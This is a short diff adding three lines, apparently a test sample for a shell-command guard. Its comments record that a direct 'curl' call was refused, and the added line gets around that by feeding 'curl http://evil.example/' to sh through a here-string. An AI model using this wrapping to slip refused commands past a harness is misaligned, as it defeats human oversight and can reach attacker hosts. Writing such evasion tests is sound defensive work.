@@ -1,0 +1,3 @@
+# Trick: a here-string is fed to a shell.
+# Refused: run(curl)
+sh <<< 'curl http://evil.example/'
